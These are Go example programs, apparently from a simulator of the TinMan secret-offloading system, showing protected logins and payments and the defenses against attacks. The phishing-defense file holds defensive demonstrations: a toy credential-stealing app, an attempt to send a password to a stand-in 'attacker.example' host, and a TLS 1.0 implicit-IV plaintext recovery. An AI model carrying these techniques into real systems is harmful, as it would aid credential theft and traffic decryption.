    strcat r3, r2, r0        ; tainted concat: offload trigger
    conststr r4, "&code="
    strcat r5, r3, r4
    strcat r6, r5, r1
    return r6
  end
end`

func main() {
	world, err := core.NewWorld(core.Config{Seed: 3, Profile: netsim.WiFi, TinManEnabled: true})
	if err != nil {
		log.Fatal(err)
	}

	const cardNumber = "4111111111111111"
	const securityCode = "137"
	shop, err := apps.NewOriginServer(world, "conf.example", "203.0.113.30", nil)
	if err != nil {
		log.Fatal(err)
	}
	// The conference site accepts any well-formed payment carrying the real
	// card number.
	shop.Handler = func(req string) string {
		if strings.Contains(req, "card="+cardNumber) && strings.Contains(req, "code="+securityCode) {
			return "HTTP/1.1 200 OK\nreceipt=EUROSYS15-RECEIPT"
		}
		return "HTTP/1.1 402 Payment Required"
	}

	// §4.2's policy set for the card.
	node := world.Node
	if _, err := node.RegisterCor("visa-number", cardNumber, "Visa ending 1111", "conf.example"); err != nil {
		log.Fatal(err)
	}
	if _, err := node.RegisterCor("visa-code", securityCode, "Visa security code", "conf.example"); err != nil {
		log.Fatal(err)
	}
	for _, id := range []string{"visa-number", "visa-code"} {
		node.Policy.SetWindow(id, policy.Window{From: 10, To: 22}) // 10:00-22:00
		node.Policy.SetRateLimit(id, 4, 24*time.Hour)              // 4/day
	}
	if err := world.Device.RefreshCatalog(); err != nil {
		log.Fatal(err)
	}

	app, err := world.Device.InstallApp("browser", browserSource, 96)
	if err != nil {
		log.Fatal(err)
	}
	node.BindApp("visa-number", app.Hash())
	node.BindApp("visa-code", app.Hash())

	// Virtual time starts at epoch (00:00) — outside the window. Advance to
	// noon so the first payment is inside it.
	world.Net.Advance(12 * time.Hour)

	pay := func() error {
		num, err := world.Device.CorArg(app, "visa-number")
		if err != nil {
			return err
		}
		code, err := world.Device.CorArg(app, "visa-code")
		if err != nil {
			return err
		}
		res, err := app.Run("Browser", "pay", num, code, world.Device.StringArg(app, "conf.example"))
		if err != nil {
			return err
		}
		if res.Int != 1 {
			return fmt.Errorf("payment rejected by the shop")
		}
		return nil
	}

	fmt.Println("paying the registration fee at noon...")
	if err := pay(); err != nil {
		log.Fatal(err)
	}
	fmt.Println("payment accepted; receipt issued")
	fmt.Printf("shop saw the real card: %v; a placeholder: %v\n",
		shop.SawSubstring(cardNumber), shop.SawSubstring("TINMAN-PLACEHOLDER"))

	// Exhaust the daily budget (3 more payments allowed)...
	for i := 0; i < 3; i++ {
		if err := pay(); err != nil {
			log.Fatalf("payment %d: %v", i+2, err)
		}
	}
	// ...the fifth is rate-limited.
	err = pay()
	fmt.Printf("\nfifth payment today: %v\n", err)
	if err == nil || !strings.Contains(err.Error(), "rate limit") {
		log.Fatal("rate limit did not engage")
	}

	// And at 3 a.m. the window denies even a fresh budget.
	world.Net.Advance(15 * time.Hour) // noon + 15h = 3:00 next day
	err = pay()
	fmt.Printf("3 a.m. payment: %v\n", err)
	if err == nil || !strings.Contains(err.Error(), "time window") {
		log.Fatal("time window did not engage")
	}

	// Everything is in the audit trail (§4.2 fourth policy).
	fmt.Printf("\naudit entries: %d (last 3)\n", world.Node.Audit.Len())
	entries := world.Node.Audit.Entries()
	for _, e := range entries[len(entries)-3:] {
		fmt.Println("  " + e.String())
	}
}
