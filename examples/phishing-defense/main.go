// Phishing defense: the paper's attack scenarios (§3.2, §3.4, §5.2) played
// out against a live TinMan world:
//
//  1. a repackaged (phishing) app tries to use the stored password and is
//     refused by the app↔cor binding;
//
//  2. a compromised device tries to exfiltrate the password to a rogue
//     domain and is refused by the cor↔domain binding;
//
//  3. a stolen device is revoked and loses all access;
//
//  4. the Figure 7 attack: why implicit-IV (TLS 1.0) session sync would
//     leak cor plaintext, and how TinMan's version floor prevents it.
//
//     go run ./examples/phishing-defense
package main

import (
	"crypto/aes"
	"fmt"
	"log"
	"strings"

	"tinman/internal/apps"
	"tinman/internal/core"
	"tinman/internal/netsim"
	"tinman/internal/tlssim"
)

const legitimateSource = `
class FaceLook
  method login 3 12
    invoke r3, FaceLook.buildRequest, r0, r1
    native r4, https_request, r2, r3
    conststr r5, "200 OK"
    indexof r6, r4, r5
    const r7, 0
    iflt r6, r7, fail
    const r8, 1
    return r8
  fail:
    const r8, 0
    return r8
  end
  method buildRequest 2 10
    hash r2, r1
    conststr r3, "POST /login HTTP/1.1\nuser="
    strcat r4, r3, r0
    conststr r5, "&hash="
    strcat r6, r4, r5
    strcat r7, r6, r2
    return r7
  end
end`

// phishingSource looks the same to the user but its code differs (it also
// copies the credential into an extra field) — so its dex hash differs.
const phishingSource = `
class FaceLook
  field stolen
  method login 3 14
    new r9, FaceLook
    iput r1, r9, stolen      ; squirrel the credential away
    invoke r3, FaceLook.buildRequest, r0, r1
    native r4, https_request, r2, r3
    const r8, 1
    return r8
  end
  method buildRequest 2 10
    hash r2, r1
    conststr r3, "POST /login HTTP/1.1\nuser="
    strcat r4, r3, r0
    conststr r5, "&hash="
    strcat r6, r4, r5
    strcat r7, r6, r2
    return r7
  end
end`

func main() {
	world, err := core.NewWorld(core.Config{Seed: 4, Profile: netsim.WiFi, TinManEnabled: true})
	if err != nil {
		log.Fatal(err)
	}
	const password = "social-secret-1234"
	if _, err := apps.NewOriginServer(world, "facelook.example", "203.0.113.50",
		map[string]string{"dave": password}); err != nil {
		log.Fatal(err)
	}
	// An attacker-controlled host is reachable from the device.
	if _, err := apps.NewOriginServer(world, "attacker.example", "198.51.100.99", nil); err != nil {
		log.Fatal(err)
	}
	if _, err := world.Node.RegisterCor("fl-pw", password, "FaceLook password", "facelook.example"); err != nil {
		log.Fatal(err)
	}
	if err := world.Device.RefreshCatalog(); err != nil {
		log.Fatal(err)
	}

	official, err := world.Device.InstallApp("facelook", legitimateSource, 64)
	if err != nil {
		log.Fatal(err)
	}
	world.Node.BindApp("fl-pw", official.Hash())
	fmt.Printf("official app installed, dex hash %s... bound to fl-pw\n", official.Hash()[:12])

	login := func(app *core.App, class, host string) error {
		pw, err := world.Device.CorArg(app, "fl-pw")
		if err != nil {
			return err
		}
		_, err = app.Run(class, "login",
			world.Device.StringArg(app, "dave"), pw, world.Device.StringArg(app, host))
		return err
	}

	// Baseline: the official app logs in fine.
	if err := login(official, "FaceLook", "facelook.example"); err != nil {
		log.Fatal(err)
	}
	fmt.Println("1. official app login: OK")

	// Attack 1: the phishing app (different hash) is refused at offload.
	phish, err := world.Device.InstallApp("facelook-phish", phishingSource, 64)
	if err != nil {
		log.Fatal(err)
	}
	err = login(phish, "FaceLook", "facelook.example")
	fmt.Printf("2. phishing app (hash %s...): %v\n", phish.Hash()[:12], err)
	if err == nil || !strings.Contains(err.Error(), "app not bound") {
		log.Fatal("phishing app was not denied")
	}

	// Attack 2: a compromised device points the official app at a rogue
	// domain; the cor<->domain binding refuses the send.
	err = login(official, "FaceLook", "attacker.example")
	fmt.Printf("3. official app -> attacker.example: %v\n", err)
	if err == nil || !strings.Contains(err.Error(), "whitelist") {
		log.Fatal("rogue domain was not denied")
	}

	// Attack 3: the phone is stolen; the user revokes it from any browser.
	world.Node.Policy.Revoke(world.Device.ID)
	err = login(official, "FaceLook", "facelook.example")
	fmt.Printf("4. revoked device: %v\n", err)
	if err == nil || !strings.Contains(err.Error(), "revoked") {
		log.Fatal("revoked device was not denied")
	}
	world.Node.Policy.Restore(world.Device.ID)

	// Attack 4 (fig 7): demonstrate the implicit-IV leak TinMan's TLS
	// floor exists to prevent. Build a TLS 1.0 CBC session out-of-band,
	// sync it to a simulated node, and recover the cor block on the
	// "device" from nothing but the synced chain state.
	fmt.Println("\nFigure 7 demonstration (why TLS 1.0 is forbidden):")
	demoImplicitIVLeak()

	// And the enforcement: a TLS 1.0-only origin is refused outright.
	legacy, err := apps.NewOriginServer(world, "legacy.example", "192.0.2.80", map[string]string{"dave": password})
	if err != nil {
		log.Fatal(err)
	}
	legacy.MaxVersion = tlssim.TLS10
	world.Node.Policy.SetWhitelist("fl-pw", []string{"facelook.example", "legacy.example"})
	err = login(official, "FaceLook", "legacy.example")
	fmt.Printf("5. TLS1.0-only origin: %v\n", err)
	if err == nil || !strings.Contains(err.Error(), "below required minimum") {
		log.Fatal("TLS1.0 origin was not refused")
	}

	fmt.Println("\nall four defenses engaged; audit trail has", world.Node.Audit.Len(), "entries and",
		len(world.Node.Audit.Anomalies()), "anomaly reports")
}

// demoImplicitIVLeak reproduces the arithmetic of Figure 7 with a real AES
// key and chain state, exactly as a malicious device would.
func demoImplicitIVLeak() {
	key := []byte("0123456789abcdef") // the device knows the session key
	c11 := make([]byte, 16)           // device's last ciphertext block
	for i := range c11 {
		c11[i] = byte(0x40 + i)
	}
	cor := []byte("pin=9137;amount!") // one block of secret, sealed by the node
	block, err := aes.NewCipher(key)
	if err != nil {
		log.Fatal(err)
	}
	// The node CBC-encrypts the cor chained on C11 (TLS 1.0 semantics) and
	// must return its last ciphertext block, C12, for the device to
	// continue the session.
	c12 := make([]byte, 16)
	for i := range c12 {
		c12[i] = cor[i] ^ c11[i]
	}
	block.Encrypt(c12, c12)

	recovered, err := tlssim.RecoverImplicitIVBlock(key, c11, c12)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("   device computes P12 = D(C12) XOR C11 = %q\n", recovered)
	if string(recovered) != string(cor) {
		log.Fatal("leak demonstration failed")
	}
	fmt.Println("   -> the synced chain state alone leaks the cor block (CVE-2011-3389 era)")
}
