// Quickstart: the smallest complete TinMan world — one device, one trusted
// node, one bank, one password — showing a protected login end to end.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"
	"strings"

	"tinman/internal/apps"
	"tinman/internal/core"
	"tinman/internal/netsim"
)

// appSource is a minimal TinMan-protected app: hash the (placeholder)
// password — the offload trigger — build the login request, send it.
const appSource = `
class QuickApp
  method login 3 12          ; account, password cor, host
    invoke r3, QuickApp.buildRequest, r0, r1
    native r4, https_request, r2, r3
    conststr r5, "200 OK"
    indexof r6, r4, r5
    const r7, 0
    iflt r6, r7, fail
    const r8, 1
    return r8
  fail:
    const r8, 0
    return r8
  end
  method buildRequest 2 10
    hash r2, r1              ; touching the tainted placeholder -> offload
    conststr r3, "POST /login HTTP/1.1\nhost=bank.example\nuser="
    strcat r4, r3, r0
    conststr r5, "&hash="
    strcat r6, r4, r5
    strcat r7, r6, r2        ; derived cor: the full request
    return r7
  end
end`

func main() {
	// 1. Build the world: a device and a trusted node on a Wi-Fi network.
	world, err := core.NewWorld(core.Config{Seed: 1, Profile: netsim.WiFi, TinManEnabled: true})
	if err != nil {
		log.Fatal(err)
	}

	// 2. An origin server (the bank) that knows alice's real password.
	const password = "correct horse battery"
	bank, err := apps.NewOriginServer(world, "bank.example", "198.51.100.10",
		map[string]string{"alice": password})
	if err != nil {
		log.Fatal(err)
	}

	// 3. One-time safe-environment setup: the password lives ONLY on the
	//    trusted node, whitelisted for the bank's domain.
	if _, err := world.Node.RegisterCor("bank-pw", password, "My bank password", "bank.example"); err != nil {
		log.Fatal(err)
	}
	if err := world.Device.RefreshCatalog(); err != nil {
		log.Fatal(err)
	}

	// 4. Install the app on the device (and, transparently, the node).
	app, err := world.Device.InstallApp("quickapp", appSource, 64)
	if err != nil {
		log.Fatal(err)
	}
	world.Node.BindApp("bank-pw", app.Hash())

	// 5. The user picks the password from the selection widget — the app
	//    receives a tainted placeholder, never the secret.
	pw, err := world.Device.CorArg(app, "bank-pw")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("placeholder on device: %q\n", pw.Ref.Str)

	// 6. Run the login. The hash instruction triggers offloading; the
	//    request is built on the node; the send happens via SSL session
	//    injection + TCP payload replacement.
	res, err := app.Run("QuickApp", "login",
		world.Device.StringArg(app, "alice"), pw, world.Device.StringArg(app, "bank.example"))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("login result: %d (1 = bank accepted)\n", res.Int)
	fmt.Printf("virtual login time: %v\n", app.Report.Total)
	fmt.Printf("offloaded round trips: %d, DSM syncs: %d, init sync %.1f KB\n",
		app.Report.Migrations, app.Report.Syncs, float64(app.Report.InitBytes)/1024)

	// 7. Verify the paper's security claim on the live heap: no plaintext
	//    residue anywhere on the device (§5.1).
	leaks := 0
	for _, o := range app.VM().Heap.Objects() {
		if o.IsStr && strings.Contains(o.Str, password) {
			leaks++
		}
	}
	fmt.Printf("device heap objects containing the secret: %d\n", leaks)
	fmt.Printf("bank saw the real credential: %v\n", bank.SawSubstring(apps.PasswordHash(password)))
	fmt.Printf("bank saw a placeholder: %v\n", bank.SawSubstring("TINMAN-PLACEHOLDER"))

	// 8. Everything was audited on the trusted node.
	fmt.Println("\ntrusted node audit log:")
	for _, e := range world.Node.Audit.Entries() {
		fmt.Println("  " + e.String())
	}
}
